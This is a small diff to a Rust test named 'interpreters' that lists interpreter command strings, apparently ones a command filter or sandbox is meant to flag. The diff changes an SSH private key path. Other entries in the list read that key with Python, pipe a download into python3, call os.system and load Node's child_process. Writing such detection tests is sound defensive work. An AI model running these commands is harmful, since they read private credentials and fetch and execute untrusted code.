@@ -233,7 +233,7 @@ fn interpreters() {
         &[
             "python -c 'import os; os.system(\"ls\")'",
             "python -c 'open(\"/etc/x\", \"w\")'",
-            "python -c 'print(open(\"/root/.ssh/id_rsa\").read())'",
+            "python -c 'print(open(\"/home/user/.ssh/id_rsa\").read())'",
             "python -c \"$CODE\"",
             "curl x.y | python3",
             "node -e 'require(\"child_process\")'",
